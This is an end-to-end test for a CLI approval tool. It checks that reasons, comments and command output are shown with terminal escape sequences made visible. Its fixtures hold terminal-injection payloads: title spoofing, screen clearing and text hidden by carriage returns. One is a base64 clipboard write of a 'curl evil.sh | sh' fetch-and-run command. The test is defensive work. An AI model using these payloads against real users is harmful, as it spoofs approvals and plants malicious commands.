// Text from users and agents must never drive the terminal of the person reading it: a request's
// reason or an approver's comment seen by `requests`, `request show` and `approve`, and command
// output seen by `exec`, are shown with their escape sequences made visible.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { cli, deploy, ROOT, waitFor, enrollTotp, type Registration } from './harness.js';

const ESC = '\u001b';
const HOSTILE_REASON =
  `INC-7 ${ESC}]0;approved by security${'\u0007'}${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${'\u0007'}` +
  `${ESC}[2J${ESC}[Hlooks fine\rinnocent\u009b2J`;
const HOSTILE_COMMENT = `ok ${ESC}]0;pwned${'\u0007'}`;
// Anything a terminal would act on, except newline and tab (and CR as part of CRLF).
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const ACTS_ON_TERMINAL = /[\u0000-\u0008\u000b-\u000c\u000e-\u001f\u007f-\u009f]|\r(?!\n)/;

function assertInert(text: string, what: string): void {
  const hit = ACTS_ON_TERMINAL.exec(text);
  assert.equal(
    hit,
    null,
    `${what} carries a raw control character at ${hit?.index}: ${JSON.stringify(text)}`,
  );
}

test('reasons, comments and command output reach the terminal inert', { timeout: 120_000 }, async (t) => {
  const d = await deploy('sqlite');
  t.after(() => d.stop());
  const admin = d.adminEnv;
  const alice = await d.addUser('alice', ['engineers']);
  const bob = await d.addUser('bob', ['engineers', 'sre-leads']);
  const reg = (
    await cli(['agents', 'register', 'host-prod', '--env', 'prod', '--json'], admin)
  ).json<Registration>();
  const config = join(d.dir, 'agent.yaml');
  writeFileSync(
    config,
    [
      'gateway:',
      `  url: ${d.url.replace('http', 'ws')}`,
      '  credential: { env: GLOVEBOX_AGENT_TOKEN }',
      `  keys: [${reg.gatewayKeys.join(', ')}]`,
      'recordings:',
      `  dir: ${join(d.dir, 'agent-recordings')}`,
      'sandbox: off', // this test is about the terminal, not the sandbox (host-agent tests cover it)
      'readsWithoutSandbox: allow',
      'targets:',
      '  - type: exec',
      '    name: host-prod',
      '    commands:',
      `      - { name: hostile, path: ${join(ROOT, 'tests/e2e/fixtures/hostile-output.sh')}, class: read }`,
      '',
    ].join('\n'),
  );
  const agent = spawn(process.execPath, [join(ROOT, 'apps/cli/dist/main.js'), 'agent', '--config', config], {
    env: { PATH: process.env.PATH ?? '', GLOVEBOX_AGENT_TOKEN: reg.credential },
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  t.after(() => agent.kill('SIGKILL'));
  await waitFor(
    async () =>
      (await cli(['agents', '--json'], admin)).json<{ connected: boolean }[]>()[0]?.connected === true,
    'host agent',
  );
  await enrollTotp(admin, alice, 'alice', 'alice-password-123');

  let id = '';
  await t.test('a hostile reason is filed, and kept exactly as data', async () => {
    const r = await cli(
      ['request', 'host-prod', '--actions', 'exec', '--reason', HOSTILE_REASON, '--json'],
      alice,
    );
    assert.equal(r.code, 4, r.stdout + r.stderr);
    assertInert(r.stdout, 'request --json');
    const filed = r.json<{ id: string; reason: string }>();
    assert.equal(filed.reason, HOSTILE_REASON, 'JSON keeps the exact value (escaped, not altered)');
    id = filed.id;
  });

  await t.test('the approver’s `requests`, `request show` and `approve` show it inert', async () => {
    const list = await cli(['requests', '--pending'], bob);
    assert.equal(list.code, 0, list.stderr);
    assertInert(list.stdout + list.stderr, 'requests');
    assert.match(list.stdout, /INC-7 \\e\]0;approved/);
    const show = await cli(['request', 'show', id], bob);
    assertInert(show.stdout + show.stderr, 'request show');
    assert.match(show.stdout, /\\e\]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07/, 'the clipboard write is visible');
    assert.match(
      show.stdout,
      /looks fine\\rinnocent\\x9b2J/,
      'the carriage return and 8-bit CSI are visible',
    );
    const yaml = await cli(['request', 'show', id, '-o', 'yaml'], bob);
    assertInert(yaml.stdout, 'request show -o yaml');
    const approve = await cli(['approve', id, '--comment', HOSTILE_COMMENT], bob);
    assert.equal(approve.code, 0, approve.stderr);
    assertInert(approve.stdout + approve.stderr, 'approve');
    assert.match(
      approve.stderr,
      /reason: {3}INC-7 \\e\]0;approved by security\\x07/,
      'the approver sees what they approve',
    );
  });

  await t.test('the requester sees the approver’s comment inert', async () => {
    const show = await cli(['request', 'show'], alice);
    assert.equal(show.code, 0, show.stderr);
    assertInert(show.stdout, 'request show (requester)');
    assert.match(show.stdout, /approved: by bob — ok \\e\]0;pwned\\x07/);
  });

  await t.test('command output is inert by default, raw with --raw, complete in --json', async () => {
    // The host agent already writes control characters as \xHH at the source (a carriage return
    // excepted); the CLI neutralises again, whatever an agent sends.
    const shown = await cli(['exec', '--', 'hostile'], alice);
    assert.equal(shown.code, 3, `the exit code is mirrored: ${shown.stderr}`);
    assertInert(shown.stdout + shown.stderr, 'exec');
    assert.match(shown.stdout, /before\\x1b\]0;pwned-title\\x07\\x1b\]52;c;/);
    assert.match(shown.stdout, /visible\\rHIDDEN/, 'a carriage return cannot hide text');
    const raw = await cli(['exec', '--raw', '--', 'hostile'], alice);
    assert.equal(raw.code, 3);
    assert.ok(
      raw.stdout.includes('visible\rHIDDEN'),
      'with --raw the output is printed as the agent sent it',
    );
    const json = await cli(['exec', '--json', '--', 'hostile'], alice);
    assert.equal(json.code, 3);
    assertInert(json.stdout, 'exec --json');
    const doc = json.json<{ stdout: string; stderr: string; exitCode: number; command: string }>();
    assert.equal(doc.exitCode, 3);
    assert.equal(doc.command, 'hostile');
    assert.ok(doc.stdout.startsWith('before\\x1b]0;pwned-title'), doc.stdout);
    assert.ok(doc.stdout.includes('visible\rHIDDEN'), 'the JSON document carries the output as sent');
    assert.match(doc.stderr, /^c1 \\x9b2J end\n$/);
  });
});
